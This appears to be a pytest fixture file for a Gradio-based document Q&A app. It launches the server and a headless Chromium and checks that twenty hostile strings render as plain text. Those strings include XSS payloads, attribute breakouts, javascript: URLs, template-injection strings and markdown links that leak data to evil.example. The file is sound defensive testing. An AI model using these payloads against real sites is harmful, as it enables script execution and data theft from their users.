"""A really running server, a real Chromium, and twenty strings that would do something if read as anything but text."""

import os
import shutil
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, contextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path
from threading import Thread

import httpx
import pytest
from playwright.sync_api import (
    Browser,
    BrowserContext,
    ConsoleMessage,
    Page,
    Request,
    Response,
    TimeoutError,
    expect,
    sync_playwright,
)

ROOT = Path(__file__).parents[2]
SECONDS = 60  # the slowest thing waited for: the models of a server that has just started

expect.set_options(timeout=SECONDS * 1000)

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "</blockquote></li></article><iframe srcdoc='<script>alert(1)</script>'>",
    "</textarea><style>*{display:none}</style>",
    "<a href=javascript:alert(1)>click</a>",
    "javascript:alert(1)",
    "![x](https://evil.example/?q=secret)",
    "[click](https://evil.example/)",
    "<https://evil.example/>",
    "$$\\href{https://evil.example}{x}$$ \\(\\unicode{x}\\)",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)} `${alert(1)}`",
    "{0.__class__} %s %(x)s {question}",
    "\u202egnp.exe\u202c \u2067rtl\u2069 \u200bhidden",
    "&lt;b&gt; &amp; &#60;script&#62;",
    "W" * 3000,
    "<!--<b>--> ]]> <base href=https://evil.example/> <meta http-equiv=refresh content=0>",
)


@pytest.fixture(params=HOSTILE, ids=[f"hostile{n}" for n in range(len(HOSTILE))])
def hostile(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture(scope="session")
def hostile_strings() -> tuple[str, ...]:
    return HOSTILE


@dataclass(frozen=True)
class Site:
    """A running server."""

    address: str
    process: subprocess.Popen[str]
    printed: list[str]
    store: Path
    temporary: Path

    @property
    def port(self) -> int:
        return int(self.address.rsplit(":", 1)[1])


Start = Callable[..., AbstractContextManager[Site]]


@pytest.fixture(scope="session")
def start() -> Start:
    return running


@contextmanager
def running(command: list[str], store: Path, **settings: object) -> Iterator[Site]:
    """A server started by a command, on a free port, over a store; it is interrupted at the end."""
    given = {f"FOOTNOTE_{name.upper()}": str(value) for name, value in {"port": 0, **settings, "store": store}.items()}
    temporary = store.with_name("temporary")
    temporary.mkdir()
    process = subprocess.Popen(
        [sys.executable, *command],
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT), "TMPDIR": str(temporary), **given},
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
    )
    assert process.stdout
    printed: list[str] = []
    for line in process.stdout:
        printed.append(line)
        if line.startswith("Footnote is at "):
            break
    else:
        pytest.fail(f"the server did not start: {''.join(printed)}")
    Thread(target=printed.extend, args=(process.stdout,), daemon=True).start()  # or its pipe would fill up
    try:
        yield Site(printed[-1].split()[3], process, printed, store, temporary)
    finally:
        process.terminate()
        process.wait(30)


@pytest.fixture(scope="session")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """The front door over the bundled samples."""
    with running(["app.py", "samples"], tmp_path_factory.mktemp("site") / "store") as site:
        wait_for_document(site, "station-guide.html")  # the last one
        yield site


def wait_for_document(site: Site, name: str) -> None:
    """Wait until a document can be read."""
    deadline = time.monotonic() + SECONDS
    while httpx.get(f"{site.address}/documents/text", params={"collection": "default", "name": name}).is_error:
        if time.monotonic() > deadline or site.process.poll() is not None:
            pytest.fail(f"{name} was not read: {''.join(site.printed)}")
        time.sleep(0.2)


@pytest.fixture(scope="session")
def scripted_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """The page over hostile files, with answers that a script gives, slowly where it is asked to."""
    folder = tmp_path_factory.mktemp("hostile")
    for number, text in enumerate(HOSTILE):
        name = text.replace("/", "\N{DIVISION SLASH}")[:60]
        (folder / f"{number:02d} {name}.md").write_text(f"# {text}\n\n{number} is what this says: {text}\n", "utf-8")
    script = str(Path(__file__).with_name("scripted_server.py"))
    with running([script, str(folder)], tmp_path_factory.mktemp("scripted") / "store") as site:
        yield site


def chromium() -> str | None:
    """Where a Chromium is."""
    named = os.environ.get("FOOTNOTE_CHROMIUM")
    return named or next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)


@pytest.fixture(scope="module")  # a running Playwright holds the event loop that asynchronous tests elsewhere need
def browser() -> Iterator[Browser]:
    executable = chromium()
    if executable is None:
        if os.environ.get("CI") == "true":
            pytest.fail("no Chromium: install one, or name it in FOOTNOTE_CHROMIUM")
        pytest.skip("no Chromium: install one, or name it in FOOTNOTE_CHROMIUM")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=executable,
            args=[
                "--no-sandbox",
                "--disable-gpu",
                "--disable-quic",
                "--no-first-run",
                "--disable-background-networking",
                "--disable-component-update",
                "--disable-sync",
            ],
        )
        yield browser
        browser.close()


# What Gradio logs when a page is left while a request of its own is under way.
LEFT = ("signal is aborted", "BodyStreamBuffer was aborted", "Connection errored out")


@dataclass
class Watched:
    """What pages did that they should not: dialogs, requests to elsewhere, errors."""

    wrong: list[str] = field(default_factory=list)

    def watch(self, page: Page, address: str) -> None:
        def request(request: Request) -> None:
            if not request.url.startswith((f"{address}/", "blob:", "data:")):
                self.wrong.append(f"a request to {request.url}")

        def console(message: ConsoleMessage) -> None:
            if message.type in {"error", "warning"} and not any(left in message.text for left in LEFT):
                self.wrong.append(f"{message.type}: {message.text}")

        def response(response: Response) -> None:
            if response.status >= 400:
                self.wrong.append(f"{response.status} for {response.request.method} {response.url}")

        page.on("request", request)
        page.on("response", response)
        page.on("console", console)
        page.on("dialog", lambda dialog: (self.wrong.append(f"a dialog: {dialog.message}"), dialog.dismiss()))
        page.on("pageerror", lambda error: self.wrong.append(f"an error: {error}"))


Visit = Callable[..., Page]


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    """One person's browser."""
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    context.set_default_timeout(SECONDS * 1000)
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    yield context
    context.close()


@pytest.fixture
def watched() -> Watched:
    return Watched()


@pytest.fixture
def visit(context: BrowserContext, site: Site, watched: Watched) -> Iterator[Visit]:
    """Opens a page in a tab of its own; at the end none has done what it should not."""

    def visit(address: str = site.address, **media: str) -> Page:
        page = context.new_page()
        watched.watch(page, address)
        if media:
            page.emulate_media(**media)
        page.goto(address)
        page.locator("#documents h2").wait_for()
        return page

    yield visit
    assert watched.wrong == []


@pytest.fixture
def ask() -> Callable[[Page, str], None]:
    """Types a question, sends it with Enter and waits for its answer."""

    def ask(page: Page, question: str) -> None:
        answered = page.locator(".exchange.done").count()
        send(page, question)
        page.locator(".exchange.done").nth(answered).wait_for()

    return ask


def send(page: Page, question: str) -> None:
    """Type a question and press Enter until it is taken: Gradio ignores it until the last answer is put away."""
    box = page.locator("#question textarea")
    asked = page.locator(".exchange").count()
    box.fill(question)
    for _ in range(SECONDS):
        box.press("Enter")
        with suppress(TimeoutError):
            page.locator(".exchange").nth(asked).wait_for(timeout=1000)
            return


@pytest.fixture(name="send")
def sending() -> Callable[[Page, str], None]:
    return send


@pytest.fixture
def new_collection() -> Callable[[Page, str], None]:
    """Begins a collection by typing its name."""

    def choose(page: Page, name: str) -> None:
        box = page.locator("#collection input")
        box.click()
        box.press("Control+A")
        page.keyboard.type(name)
        box.press("Enter")
        page.locator(f'#documents [data-collection="{name}"]').wait_for()

    return choose
